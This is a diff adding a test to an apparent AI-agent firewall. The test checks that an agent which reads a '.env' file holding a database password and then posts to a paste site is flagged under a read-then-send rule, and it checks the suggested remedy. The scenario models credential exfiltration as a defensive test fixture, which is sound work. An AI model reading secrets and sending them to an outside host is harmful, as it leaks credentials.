@@ -11,7 +11,8 @@ from gateway.cli.remedy import Remedy, remedies
 from gateway.policy.call import Call
 from gateway.policy.explained import Explained
 from gateway.policy.firewall import Firewall
-from gateway.policy.transcript import Transcript
+from gateway.policy.transcript import Made, Returned, Said, Transcript
+from gateway.segment import Role, Trust
 from gateway.serve.gates import firewall_of
 from gateway.settings import Config
 from gateway.verdict import Effect
@@ -104,6 +105,21 @@ def test_without_a_list_an_agent_must_first_show_who_it_is() -> None:
 def test_how_wide_a_list_should_be_is_left_to_the_operator(text: str, call: Call, words: str) -> None:
     found = [one for one in suggested(text, call) if words in one.words]
     assert [one.toml for one in found] == [""]
+
+
+def test_what_follows_from_what_was_read_is_said_of_the_conversation() -> None:
+    config = Config()
+    read = Call("read_file", {"path": ".env"})
+    turns = (
+        Said("Look at the settings, please.", Role.USER, Trust.PRINCIPAL),
+        Made(read, 1),
+        Returned("DB_PASSWORD=" + "correct-horse", read, 2),
+    )
+    call = Call("http_post", {"url": "https://paste.example/new", "body": "x"})
+    found = firewall(config).sight(Transcript(turns), lambda _: False, None).explain(call)
+    assert "chain-read-send" in {reason.rule for reason in found.ruling.reasons}
+    words = [one.words for one in remedies(call, found, "default", config)]
+    assert any(one.startswith("do it in a conversation that has not read that") for one in words)
 
 
 def test_a_tool_of_the_system_is_not_lightly_let_go() -> None:
